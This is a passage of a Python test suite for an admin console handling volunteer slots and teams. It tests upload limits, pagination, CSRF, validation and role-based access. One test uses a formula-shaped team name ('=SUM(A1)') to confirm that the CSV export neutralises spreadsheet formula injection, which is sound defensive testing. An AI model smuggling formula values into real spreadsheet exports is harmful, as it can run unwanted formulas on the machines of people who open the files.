            f"jinkui,{day},{h:02d}:00,{h:02d}:30,5,浇水\n" for h in range(6, 6 + 12)
        ) + "".join(f"jinkui,{day},{h:02d}:30,{h + 1:02d}:00,5,除草\n" for h in range(6, 6 + 12))
        head = "base,date,start,end,capacity,task\n"
        excel = await upload((head + rows * 3).encode("gbk")[: 500 * 1024])
        assert excel.status == 200 and "72" in await excel.text()  # 24 rows x 3, in GBK
        big = await upload(b"x" * (600 * 1024))
        assert big.status == 400 and "512 KB" in await big.text()
        huge = await upload(b"x" * (7 * 1024 * 1024))  # over the console's upload limit
        said = await huge.text()
        assert huge.status == 413 and "6 MB" in said and "<html" in said.lower()
        first = await (await city.get("/admin/slots?base=jinkui")).text()
        assert first.count('href="/admin/slots/') == 50 and "page=1" in first
        rest = await (await city.get("/admin/slots?base=jinkui&page=1")).text()
        assert rest.count('href="/admin/slots/') == 22 and "page=0" in rest
    finally:
        await city.close()


async def test_teams_in_the_console_by_role(plain: Settings, runtime: Runtime) -> None:
    organiser = Chat(runtime.engine, user_id="boss", display_name="王经理")
    await organiser.say("/team")
    await organiser.tap("team:create")
    await organiser.say("林业局队")
    await organiser.tap("base:jinkui")
    await organiser.say("50")
    await organiser.pledge("jinkui", "donation", "100", "=SUM(A1)")  # a name like a formula
    other = await runtime.teams.create(UserKey("test:x"), "吊桥队", "diaoqiao", 9, 2026)
    assert not isinstance(other, str)
    (mine,) = [t for t in await runtime.teams.all() if t.base == "jinkui"]
    for name, role in (("city1", "city"), ("jk", "base:jinkui"), ("rev", "reviewer")):
        await account(runtime, name, role)
    city, jk, rev = [await fresh(plain, runtime) for _ in range(3)]
    try:
        await log_in(city, "city1")
        listing = await (await city.get("/admin/teams")).text()
        assert mine.code in listing and other.code in listing and "0 / 50 (0%)" in listing
        detail = await (await city.get(f"/admin/teams/{mine.code}")).text()
        assert "林业局队" in detail and "=SUM(A1)" in detail  # shown as typed
        got = await city.get(f"/admin/teams/{mine.code}.csv")
        exported = (await got.read()).decode("utf-8-sig")
        assert got.status == 200 and ",'=SUM(A1)," in exported  # exported inert
        token = await csrf_of(city)
        form = {"csrf": token, "name": "园林局队", "base": "", "target": "30"}
        for name in ("园林局队", "教育局队"):  # staff make teams for several units
            made = await city.post(
                "/admin/teams", data=form | {"name": name}, allow_redirects=False
            )
            assert made.status == 303 and made.headers["Location"].startswith("/admin/teams/")
        for bad, said in (({"name": "长" * 200}, "1 到 30 个"), ({"target": "0"}, "1 到 100000")):
            refused = await city.post("/admin/teams", data=form | bad)
            assert refused.status == 400 and said in await refused.text()
        assert len(await runtime.teams.all()) == 4  # the refused made nothing
        entries = [e for _, e in await runtime.audit.entries(20, "+")]
        assert any(e["what"] == "teams.create" and "园林局队" in e["detail"] for e in entries)
        await log_in(jk, "jk")
        seen = await (await jk.get("/admin/teams")).text()
        assert mine.code in seen and other.code not in seen  # a base's teams only
        jk_form = form | {"csrf": await csrf_of(jk), "base": "diaoqiao"}
        assert (await jk.post("/admin/teams", data=jk_form)).status == 403
        assert (await jk.get(f"/admin/teams/{other.code}")).status == 404
        await log_in(rev, "rev")
        assert (await rev.get("/admin/teams")).status == 403
    finally:
        for client in (city, jk, rev):
            await client.close()
